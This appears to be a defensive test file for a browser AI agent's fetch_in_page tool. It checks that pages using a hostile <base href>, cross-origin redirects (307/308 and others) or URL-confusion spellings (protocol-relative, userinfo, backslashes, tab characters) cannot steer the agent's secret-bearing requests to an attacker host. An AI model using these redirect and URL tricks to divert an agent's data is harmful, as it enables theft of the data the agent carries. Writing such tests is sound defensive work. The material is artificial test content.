// Adversarial: fetch_in_page sent somewhere else than the agent was told. A <base href> pointing at
// an attacker (also flipping while the call runs), redirects from A to the attacker (307/308 keep the
// body), and URL spellings that resolve to the attacker. The attacker's log must show no request
// carrying the agent's body or header, and no attacker answer may come back.
import { expect, it } from "vitest";
import { useAttackRig } from "../src/attack/rig.ts";
import { ATTACKERS, type Attacker } from "../src/attack/secrets.ts";
import { describeBrowser } from "../src/harness.ts";

let n = 0;

describeBrowser("adversarial: fetch_in_page destinations", () => {
  const R = useAttackRig("adv-fetch");

  /** Requests that reached x with the agent's body, header or query secret. */
  function carried(x: Attacker, secret: string): string[] {
    return R()
      .site.log.filter((e) => e.role === x && e.path !== "/beacon")
      .filter((e) => e.body.includes(secret) || e.query.includes(secret) || e.headers["x-agent-secret"] !== undefined)
      .map((e) => `${e.method} ${e.path}${e.body.includes(secret) ? " with the body" : ""}${e.headers["x-agent-secret"] ? " with the header" : ""}`);
  }
  function expectNotCarried(x: Attacker, secret: string) {
    const got = carried(x, secret);
    if (got.length) throw new Error(`LEAK: reached ${x}: ${got.join(", ")}`);
  }

  for (const x of ATTACKERS) {
    for (const [what, url, method] of [
      ["a relative URL", "sink", "POST"],
      ["an absolute path", "/api/sink", "POST"],
      ["a dot path with a query", "./sink?q=1", "PUT"],
      ["a bare query", "?only=query", "POST"],
    ] as const) {
      it(`<base href> at ${x}, ${what} (${method}): nothing reaches ${x}`, async () => {
        await R().policy({ fetch: true });
        const { tabId } = await R().open("/base", { x });
        const secret = `AGENT-BODY-${++n}-f00d`;
        const res = await R().call("fetch_in_page", { tabId, url, method, body: secret, headers: { "X-Agent-Secret": "1" } }, 15_000);
        expectNotCarried(x, secret);
        await R().expectClean({ kinds: [] });
        expect(res.error?.code, res.text).toBe("origin_not_allowed");
      });
    }

    it(`<base href> flipping between A and ${x} every few ms: 10 POSTs, none reaches ${x}`, async () => {
      await R().policy({ fetch: true });
      const { tabId } = await R().open("/base", { x, toggle: 1 });
      const secret = `AGENT-BODY-${++n}-f11p`;
      for (let i = 0; i < 10; i++) await R().call("fetch_in_page", { tabId, url: "sink", method: "POST", body: secret }, 15_000);
      expectNotCarried(x, secret);
      await R().expectClean({ kinds: [] });
    });

    for (const [code, method, hops] of [
      [307, "POST", 1],
      [308, "POST", 1],
      [307, "PUT", 3],
      [302, "POST", 1],
      [303, "POST", 1],
      [301, "GET", 2],
    ] as const) {
      it(`${method} to A that redirects (${code}${hops > 1 ? `, ${hops} hops` : ""}) to ${x}: nothing reaches ${x}, no answer of ${x} returns`, async () => {
        await R().policy({ fetch: true });
        const { tabId } = await R().open("/nest-leaf");
        const secret = `AGENT-BODY-${++n}-r3d1`;
        const res = await R().call("fetch_in_page", {
          tabId,
          url: `/hop?code=${code}&to=${x}&n=${hops}`,
          method,
          ...(method === "GET" ? {} : { body: secret }),
          headers: { "X-Agent-Secret": "1" },
        }, 15_000);
        expectNotCarried(x, secret);
        await R().expectClean({ kinds: [] });
        expect(res.error?.code, res.text).toBe("origin_not_allowed");
      });
    }

    for (const [what, spell] of [
      ["protocol-relative", (h: string) => `//${h}/api/sink`],
      ["userinfo naming A", (h: string) => `http://${R().site.host("a")}@${h}/api/sink`],
      ["backslashes", (h: string) => `http:\\\\${h}\\api\\sink`],
      ["a tab inside the slashes", (h: string) => `/\t/${h}/api/sink`],
      ["upper-case scheme", (h: string) => `HTTP://${h.toUpperCase()}/api/sink`],
    ] as const) {
      it(`fetch_in_page to ${x} spelt ${what}: refused before anything is sent`, async () => {
        await R().policy({ fetch: true });
        const { tabId } = await R().open("/nest-leaf");
        const secret = `AGENT-BODY-${++n}-sp3l`;
        const res = await R().call("fetch_in_page", { tabId, url: spell(R().site.host(x)), method: "POST", body: secret }, 15_000);
        expectNotCarried(x, secret);
        expect(R().site.requests(x, "/api/").map((e) => `${e.method} ${e.path}`), `requests that reached ${x}`).toEqual([]);
        await R().expectClean({ kinds: [], agentNamed: true });
        expect(["origin_not_allowed", "invalid_argument"], res.text).toContain(res.error?.code);
      });
    }
  }

  it("control: a POST to A's own API reaches A with its body and returns A's answer", async () => {
    await R().policy({ fetch: true });
    const { tabId } = await R().open("/nest-leaf");
    const secret = `AGENT-BODY-${++n}-ctrl`;
    const res = await R().call("fetch_in_page", { tabId, url: "/api/sink", method: "POST", body: secret }, 15_000);
    expect(res.isError, res.text).toBe(false);
    expect(R().site.requests("a", "/api/sink").some((e) => e.body === secret)).toBe(true);
    await R().expectClean({ kinds: [] });
  });
});
